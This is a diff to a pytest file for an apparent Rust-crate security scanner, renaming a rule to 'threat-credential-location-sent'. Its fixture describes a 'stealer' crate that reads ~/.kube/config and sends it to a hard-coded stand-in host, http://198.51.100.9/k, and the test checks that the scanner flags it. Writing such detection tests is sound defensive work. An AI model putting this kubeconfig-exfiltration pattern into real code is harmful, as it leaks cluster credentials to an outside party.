@@ -197,13 +197,14 @@ def test_credentials_sent_along_calls_need_a_destination_of_the_crate_s_own(
         std::fs::read_to_string(format!("{home}/.kube/config")).unwrap_or_default()
     }
     """
+    # (a kubeconfig is where tools of its kind read: `threat-credential-location-sent`)
     tool = scan(tmp_path / "tool", {"src/lib.rs": lib, "src/creds.rs": creds})
-    assert joined(tool, "threat-credential-exfiltration") == []
+    assert joined(tool, "threat-credential-location-sent") == []
     stealer_lib = lib.replace(
         'std::env::var("KUBE_SERVER").unwrap_or_default()', '"http://198.51.100.9/k".into()'
     )
     stealer = scan(tmp_path / "stealer", {"src/lib.rs": stealer_lib, "src/creds.rs": creds})
-    assert joined(stealer, "threat-credential-exfiltration")
+    assert joined(stealer, "threat-credential-location-sent")
 
 
 @pytest.mark.parametrize(("trait", "counts"), [("Display", True), ("ProvideCredentials", False)])
